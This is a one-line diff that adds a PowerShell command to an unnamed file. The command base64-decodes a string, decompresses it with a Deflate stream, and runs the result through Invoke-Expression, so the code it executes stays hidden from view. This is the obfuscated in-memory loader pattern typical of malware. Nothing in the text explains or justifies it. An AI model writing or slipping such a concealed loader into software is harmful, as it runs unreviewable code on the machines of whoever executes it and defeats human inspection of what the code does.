@@ -1,0 +1,1 @@
+IEX (New-Object IO.StreamReader(New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('U0m29Ust1/VPykpNLlHwSy3RC09Ncs7JTM0rsVZJ1nPJL8/LyU9MCS4pysxL11DPKCkpsNLXNzTQA0FD/US9gmJDdc0aT9cIa8+8svzsVF3fzNzM7MSSKgVdl9LcAuei1JRiAA=='),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
